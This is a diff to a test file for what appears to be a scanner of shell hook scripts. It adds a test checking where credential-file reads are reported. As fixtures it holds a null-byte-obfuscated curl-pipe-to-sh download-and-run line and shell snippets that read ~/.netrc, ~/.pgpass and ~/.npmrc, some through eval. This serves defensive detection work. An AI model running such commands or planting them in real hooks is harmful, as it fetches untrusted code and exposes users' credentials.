@@ -148,3 +148,15 @@ def test_what_reads_a_file_decides_its_language(start: str | None, first: str) -
 
 def test_shells_drop_null_bytes() -> None:
     assert ("V-RUN-DOWNLOAD", "high") in findings("cu\0rl -s https://h.example/x | s\0h")
+
+
+def test_a_finding_in_a_function_is_where_the_function_is() -> None:
+    files = {
+        "hook.sh": b"#!/bin/bash\n. ./lib.sh\nf\neval 'g() { cat ~/.netrc; }'; g\n",
+        "lib.sh": b"\n\n\n\n\nf() {\n  cat ~/.pgpass\n}\nh() { cat ~/.npmrc; }\n",
+    }
+    report = vet(files, config="hook.sh", observe=False)
+    places = {finding.detail: (finding.file, finding.line, finding.column) for finding in report.findings}
+    assert places["reads ~/.pgpass"] == ("lib.sh", 7, 3)
+    assert places["reads ~/.npmrc"] == ("lib.sh", 9, 7)
+    assert places["reads ~/.netrc"] == ("hook.sh", 4, 1)
